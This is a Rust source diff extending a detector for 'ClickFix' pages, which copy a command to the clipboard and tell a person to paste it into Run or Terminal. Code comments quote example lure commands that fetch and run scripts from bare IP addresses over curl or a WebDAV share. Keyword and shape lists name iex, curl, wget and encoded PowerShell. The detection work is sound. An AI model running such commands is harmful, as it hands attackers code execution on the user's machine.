@@ -42,7 +42,7 @@ const CLAIM_REACH: usize = 90;
 /// Words about the attack (distinct, weighted) that make a page a write-up about it.
 const ABOUT_ATTACK: f32 = 2.0;
 /// Candidate lines read for a command a page shows to be typed by hand.
-const TYPED_LINES: usize = 8;
+const TYPED_LINES: usize = 12;
 /// Bytes of page text read before and after a command shown to be typed by hand.
 const TYPED_BEFORE: usize = 3000;
 const TYPED_AFTER: usize = 1500;
@@ -167,6 +167,9 @@ pub struct Command {
     pub comment: String,
     /// The command before any padding, flattened: compared with the page's own text.
     flat: String,
+    /// Its first line, flattened: a page that appends a line to what a person copies ("Read
+    /// more at …") still shows the command.
+    head: String,
     /// Every address it fetches is how installers are published: https, a host name, and a
     /// named `.ps1` script or `.msi` package (or the site's root, `get.example.sh`).
     published: bool,
@@ -212,6 +215,46 @@ impl Command {
         !page_site.is_empty()
             && !self.https_sites.is_empty()
             && self.https_sites.iter().all(|s| s == page_site)
+    }
+
+    /// Fetches from where no installer is published: 2 for a public IP (any scheme) or a share
+    /// on one or over WebDAV, 1 for plain `http://` / `ftp://` from another site than the
+    /// page's, 0 otherwise. A private, loopback or intranet address is the person's own network.
+    pub fn lure_fetch(&self, page_site: &str) -> u8 {
+        // A WebDAV share on the page's own site is how an IT page maps its drive.
+        let unc = self
+            .flat
+            .find("\\\\")
+            .map_or("", |i| share_host(&self.flat[i..]));
+        let dav = unc.contains('@') || has(&self.flat, "davwwwroot");
+        let elsewhere = registrable(unc.split('@').next().unwrap_or("")) != page_site;
+        if unc_reaches_out(&self.flat) && (dav && elsewhere || ip_host(unc)) {
+            return 2;
+        }
+        let mut level = 0;
+        for t in tokens(&self.flat) {
+            let Some(i) = t.find("://") else { continue };
+            let host = host_of(t);
+            if unc_reaches_out(&format!("\\\\{host}")) {
+                if ip_host(&host) {
+                    return 2;
+                }
+                if !t[..i].ends_with('s') && registrable(&host) != page_site {
+                    level = 1;
+                }
+            }
+        }
+        level
+    }
+
+    /// Hides what it runs: an encoded or hidden PowerShell, base64 decoded into a shell.
+    fn hides_script(&self) -> bool {
+        self.shapes.iter().any(|s| {
+            matches!(
+                s,
+                Shape::PowerShellEncoded | Shape::PowerShellHidden | Shape::Base64Shell
+            )
+        })
     }
 
     /// Installs a package fetched from elsewhere (`msiexec /i https://…`): a program the person
@@ -280,6 +323,9 @@ pub struct ClickFix {
     pub pretext: Option<String>,
     /// The page shows the command to be typed by hand; nothing was copied.
     pub typed: bool,
+    /// The page copied a command that fetches from where no installer publishes (or hides its
+    /// script) and does not show it.
+    pub unseen: bool,
 }
 
 /// The clipboard text as the recogniser reads it: lowercase, escapes and quotes that only hide
@@ -366,15 +412,22 @@ fn has(hay: &str, needle: &str) -> bool {
 }
 
 /// `word` occurs in `flat` with no letter or digit on either side.
-#[inline(never)]
 fn has_word(flat: &str, word: &str) -> bool {
+    words(flat, word) > 0
+}
+
+/// How often `word` occurs in `flat` with no letter or digit on either side.
+#[inline(never)]
+fn words(flat: &str, word: &str) -> usize {
     let b = flat.as_bytes();
-    flat.match_indices(word).any(|(i, _)| {
-        let before = i.checked_sub(1).map(|j| b[j]);
-        let after = b.get(i + word.len()).copied();
-        !before.is_some_and(|x| x.is_ascii_alphanumeric())
-            && !after.is_some_and(|x| x.is_ascii_alphanumeric())
-    })
+    flat.match_indices(word)
+        .filter(|(i, _)| {
+            let before = i.checked_sub(1).map(|j| b[j]);
+            let after = b.get(i + word.len()).copied();
+            !before.is_some_and(|x| x.is_ascii_alphanumeric())
+                && !after.is_some_and(|x| x.is_ascii_alphanumeric())
+        })
+        .count()
 }
 
 fn has_url(flat: &str) -> bool {
@@ -846,6 +899,12 @@ pub fn recognise(raw: &str) -> Option<Command> {
         shown: defang(cmd_part),
         comment: defang(&comment.chars().take(60).collect::<String>()),
         flat: flatten(cmd_part),
+        head: flatten(
+            cmd_part
+                .lines()
+                .find(|l| !l.trim().is_empty())
+                .unwrap_or(""),
+        ),
         published: published(&flat, windows),
         https_sites: if published(&flat, false) {
             tokens(&flat)
@@ -957,6 +1016,16 @@ pub fn defang(raw: &str) -> String {
     out
 }
 
+/// The registrable domain of a page's address; none for a host that serves anyone's content.
+fn site_of(url: &str) -> String {
+    let host = host_of(url);
+    if is_user_content(&host) {
+        String::new()
+    } else {
+        registrable(&host)
+    }
+}
+
 /// The page's text, normalised, with the lexicon hits ClickFix reads.
 pub struct PageHits {
     base: String,
@@ -1025,10 +1094,7 @@ impl PageHits {
     /// Hosts that serve anyone's content (sites.google.com next to drive.google.com) have no
     /// site of their own here.
     pub fn on(mut self, url: &str) -> PageHits {
-        let host = host_of(url);
-        if !is_user_content(&host) {
-            self.site = registrable(&host);
-        }
+        self.site = site_of(url);
         self
     }
 
@@ -1042,6 +1108,22 @@ impl PageHits {
             return path.len() > 2 && has(&self.flat, path);
         }
         command.flat.len() >= 16 && has(&self.flat, &command.flat)
+    }
+
+    /// [`shows`], or the page shows the copied text's first line: a page may add a line to what
+    /// a person copies from it ("Read more at …").
+    fn shows_head(&self, command: &Command) -> bool {
+        self.shows(command) || command.head.len() >= 16 && has(&self.flat, &command.head)
+    }
+
+    /// The page names a shell window in its own words, in any language ("ketik cmd", "open
+    /// Terminal", "PowerShell (Admin)"): the name is on the page more often than in the command
+    /// where the page shows it.
+    fn names_shell(&self, command: &Command) -> bool {
+        let shown = self.flat.matches(command.flat.as_str()).count();
+        ["cmd", "powershell", "terminal", "terminale"]
+            .iter()
+            .any(|w| words(&self.flat, w) > words(&command.flat, w) * shown)
     }
 
     /// The page names `msiexec` in its own words, beside the commands it shows ("msiexec command
@@ -1161,6 +1243,7 @@ pub fn apply(found: ClickFix, verdict: &mut Verdict) {
         instructions,
         pretext,
         typed,
+        unseen,
     } = found;
     let mut add = |id, weight: f32, text: String, sentence: &'static str| {
         verdict.reasons.push(Reason {
@@ -1205,6 +1288,14 @@ pub fn apply(found: ClickFix, verdict: &mut Verdict) {
             CLICKFIX_PRETEXT,
             p,
             english!("The page pretends this is a check that you are human."),
+        );
+    }
+    if unseen {
+        add(
+            ReasonId::UnseenCommand,
+            CLICKFIX_HIDDEN_COMMAND,
+            String::new(),
+            english!("The page copied a command it does not show you."),
         );
     }
     if command.padded {
@@ -1343,10 +1434,11 @@ pub fn judge(snap: &Snapshot) -> Option<ClickFix> {
 /// or Terminal steps and a story (a human check, a fix, an update), on a page that does not
 /// talk about scams.
 fn typed(snap: &Snapshot, text: &str) -> Option<ClickFix> {
+    let site = site_of(&snap.url);
     let (line, command) = typed_lines(text)
         .into_iter()
         .filter_map(|l| Some((l, recognise(l)?)))
-        .find(|(_, c)| c.strong())?;
+        .find(|(_, c)| c.strong() || c.lure_fetch(&site) > 0)?;
     // The steps and the story stand around the command: the page is read from 3 KB before it to
     // 1.5 KB after it (with its title), not whole a second time (a 64 KB docs page showing an
     // `iex` doubled the engine's time).
@@ -1395,6 +1487,11 @@ fn typed_lines(text: &str) -> Vec<&str> {
         "iex",
         "irm",
         "iwr",
+        // Judged only when they fetch from where no installer publishes (a bare IP, plain http
+        // from another site, a share on the internet).
+        "cmd",
+        "curl",
+        "wget",
     ];
     let b = text.as_bytes();
     let mut out: Vec<&str> = Vec::new();
@@ -1545,27 +1642,51 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
                 && (s.strong() || *s == Shape::PipeToShell && hidden_story)
         });
     let pretext = page_pretext || command.comment_pretext;
-    if !(windows_run || mac_run || pretext || command.padded) {
+    let told = verify >= 1.0 || page.story().next().is_some();
+    let shell_named = page.weight(Cat::RunShell) >= 1.0 || page.names_shell(&command);
+    // What a lure copies and no page shows: a command fetching from where no installer publishes
+    // (a bare IP, plain http from another site, a share on the internet) or hiding its script,
+    // put on the clipboard while the page shows something else or nothing (steps drawn in an
+    // image, "type cmd, right-click to paste" in a language without a word list). A strong shape
+    // fetching from a bare IP or another site's WebDAV share is enough alone; anything else needs
+    // a step, a check or a story around it. A page that shows what it copies (docs, a write-up's
+    // code block) is read as before.
+    let fetch = command.lure_fetch(&page.site);
+    let unseen = !typed
+        && (fetch > 0 || command.hides_script())
+        && !page.shows_head(&command)
+        && !write_up
+        && (fetch > 1 && command.strong()
+            || told
+            || verify > 0.0
+            || run_dialog
+            || terminal
+            || shell_named);
+    // A command shown to be typed by hand that fetches so (`curl -s http://203.0.113.5/u | zsh`
+    // in Terminal, `cmd /c start \\203.0.113.7@80\v.bat` in the Run box) is judged as a
+    // strong one: no docs give it.
+    let typed_fetch = typed && fetch > 0 && (run_dialog || terminal);
+    if !(windows_run || mac_run || pretext || command.padded || unseen || typed_fetch) {
         return None;
     }
-    let told = verify >= 1.0 || page.story().next().is_some();
     // A command to type is on the page by design: a shell window named counts as a run step
     // for it only next to a human check (a tutorial names one above its fix as well).
-    let typed_run = run_dialog || terminal || verify >= 1.0 && page.weight(Cat::RunShell) >= 1.0;
+    let typed_run = run_dialog || terminal || verify >= 1.0 && shell_named;
     // Words about scams excuse it without a human check only: a kit's check "protects the site
     // from bots and phishing" too (a write-up quoting the check names the attack: `write_up`).
-    if typed && (!told || !typed_run || about >= 1.0 && verify < 1.0 || write_up) {
+    // A command from a bare IP or share tells its own story.
+    if typed && (!(told || fetch > 1) || !typed_run || about >= 1.0 && verify < 1.0 || write_up) {
         return None;
     }
     let mut instructions = Vec::new();
-    if windows_run {
+    if windows_run || unseen {
         instructions.extend(page.texts(Cat::RunDialog));
         instructions.extend(page.texts(Cat::RunShell));
     }
-    if mac_run {
+    if mac_run || unseen || typed_fetch {
         instructions.extend(page.texts(Cat::RunTerminal));
     }
-    if windows_run || mac_run || pretext {
+    if windows_run || mac_run || pretext || unseen || typed_fetch {
         instructions.extend(page.texts(Cat::PasteStep).into_iter().take(2));
     }
     let pretext = if page_pretext {
@@ -1580,6 +1701,7 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
         instructions,
         pretext,
         typed,
+        unseen,
     })
 }
 
@@ -2241,7 +2363,12 @@ mod tests {
             "Use winget + R scripts to set up a PC. Press Ctrl + V and Enter.",
             "To win, press + R to reload. Press Ctrl + V and Enter.",
         ] {
-            assert!(!judged(clip, &format!("{story} {text}")), "{text}");
+            // (The page is ClickFix all the same: it copies a hidden download from a bare IP
+            // that it does not show, next to its story. What is tested is the run step.)
+            assert!(
+                page(&format!("{story} {text}")).weight(Cat::RunDialog) < 1.0,
+                "{text}"
+            );
         }
     }
 
